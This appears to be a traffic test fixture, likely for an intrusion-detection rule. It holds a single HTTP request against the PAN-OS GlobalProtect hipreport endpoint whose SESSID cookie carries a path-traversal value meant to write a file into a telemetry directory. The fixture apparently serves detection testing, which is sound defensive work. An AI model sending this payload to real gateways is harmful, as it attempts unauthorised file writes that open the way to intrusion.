# PAN-OS GlobalProtect, path in the session cookie.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:80

>>>
POST /ssl-vpn/hipreport.esp HTTP/1.1\r\n
Host: shop.example\r\n
Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/hour/x\r\n
User-Agent: Mozilla/5.0\r\n
Content-Length: 1\r\n
\r\n
x

<<<
HTTP/1.1 200 OK\r\n
Content-Length: 2\r\n
\r\n
ok
